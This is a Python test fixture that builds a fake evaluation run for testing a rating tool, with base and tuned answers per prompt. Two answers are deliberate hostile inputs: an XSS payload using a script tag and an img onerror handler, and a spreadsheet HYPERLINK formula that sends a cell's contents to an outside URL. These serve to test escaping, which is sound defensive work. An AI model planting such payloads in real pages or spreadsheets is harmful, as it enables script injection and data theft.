"""A run whose answers differ, for tests of ratings."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from graft.cli.progress import Screen
from graft.commands.rate import OpenRating, open_rating
from graft.config import RateSettings
from report import sample_run

HOSTILE = (
    "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\"> \x1b[31mred\x1b[0m & "
    "<b>bold</b>"
)
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"more")'


def rated_run(folder: Path, count: int = 12) -> Path:
    """A run with ``count`` rows: base is brief, tuned says more; one answer is hostile, and one a formula."""
    folder.mkdir(parents=True, exist_ok=True)
    sample_run.free_text(folder)
    answers = {0: HOSTILE, 1: FORMULA}
    lines = [
        {
            "origin": f"rows.jsonl:{n + 1}",
            "prompt": f"Say what package {n} does, in one line.\nIt helps with task {n}.",
            "reference": f"helps with task {n}",
            "answers": {"base": f"Package {n}.", "tuned": answers.get(n, f"It helps people with task {n} & more.")},
        }
        for n in range(count)
    ]
    kept = [
        {
            "prompt": [{"role": "user", "content": line["prompt"]}],
            "completion": line["reference"],
            "origin": line["origin"],
        }
        for line in lines
    ]
    (folder / "data").mkdir(exist_ok=True)
    text = "".join(json.dumps(line) + "\n" for line in kept)
    (folder / "data" / "eval.jsonl").write_text(text, encoding="utf-8")
    lines.append({**lines[-1], "origin": "rows.jsonl:99", "prompt": "the same", "answers": {"base": "x", "tuned": "x"}})
    text = "".join(json.dumps(line) + "\n" for line in lines)
    (folder / "predictions.jsonl").write_text(text, encoding="utf-8")
    return folder


def opened(run: Path, **settings: Any) -> OpenRating:
    with Screen(quiet=True, imports=False) as screen:
        return open_rating(run, RateSettings(**settings), screen)


def lines_of(run: Path, name: str = "judgments.jsonl") -> list[dict[str, Any]]:
    return [json.loads(line) for line in (run / name).read_text(encoding="utf-8").splitlines()]
